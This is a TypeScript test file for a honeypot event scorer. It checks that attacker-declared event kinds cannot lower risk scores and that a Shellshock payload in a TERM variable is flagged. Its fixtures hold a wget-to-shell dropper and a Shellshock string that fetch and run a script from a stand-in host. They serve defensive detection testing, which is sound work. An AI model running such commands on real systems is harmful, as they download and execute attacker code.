/** What a visitor controls must not lower the verdict of what they did. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { eventKinds } from '../../src/core/event.ts';
import { emptyHistory } from '../../src/core/history.ts';
import { parseHoneypotLog } from '../../src/ingest/native.ts';
import { createRulesScorer } from '../../src/score/local.ts';
import { otherKind, withStatedKind } from '../../src/score/stated-kind.ts';
import { eventually, openTestPipeline } from '../support/pipeline.ts';

const dropper = 'cd /tmp; wget http://198.51.100.1/x -O- | sh';
const log = (given: object) =>
  parseHoneypotLog({
    timestamp: new Date().toISOString(),
    service: 'ssh',
    source_ip: '203.0.113.9',
    activity: 'command',
    payload: dropper,
    ...given,
  });
const judge = (given: object): number => {
  const scorer = withStatedKind(createRulesScorer());
  return scorer.judge({ event: log(given), history: emptyHistory, session: null, baseline: null }).risk_score;
};

describe('a dropper that states a kind for itself', () => {
  it('is judged no lower, whichever kind that is', () => {
    const plain = judge({});
    assert.ok(plain >= 7, `risk ${plain}`);
    for (const kind of eventKinds) assert.ok(judge({ extra: { kind } }) >= plain, kind);
  });

  it('makes an alert', async (t) => {
    const { pipeline, sender, store, close } = await openTestPipeline();
    t.after(close);
    const [result] = await pipeline.accept(sender, [log({ extra: { kind: 'sensor.message' } })]);
    assert.equal(result?.alert_created, true);
    const alert = await eventually(
      async () => (await store.of(sender.user_id).alerts({}, { limit: 1 })).items[0],
    );
    assert.ok(alert.risk_score >= 7);
  });
});

describe('what a client says of itself', () => {
  it('is read: an exploit in an environment variable is judged as one', () => {
    const shellshock = '() { :;}; /bin/bash -c "wget http://198.51.100.1/x -O- | sh"';
    const client = { activity: 'client version', extra: { kind: 'client.identified' } };
    assert.ok(judge({ ...client, payload: `TERM=${shellshock}` }) >= 6);
    for (const payload of ['SSH-2.0-Go', 'SSH-2.0-libssh2_1.10.0', 'LANG=en_US.UTF-8', 'TERM=xterm-256color'])
      assert.equal(judge({ ...client, payload }), 0, payload);
  });
});

describe('a guess that states another kind', () => {
  it('is counted as a failed sign-in all the same', () => {
    const scorer = withStatedKind(createRulesScorer());
    const event = log({ activity: 'login failed', payload: 'root:1', extra: { kind: 'http.request' } });
    assert.equal(otherKind(event), 'login.failed');
    const verdict = scorer.judge({
      event,
      history: emptyHistory,
      session: null,
      baseline: null,
    });
    assert.equal(scorer.toCounts(event, verdict).failed_logins, 1);
  });
});
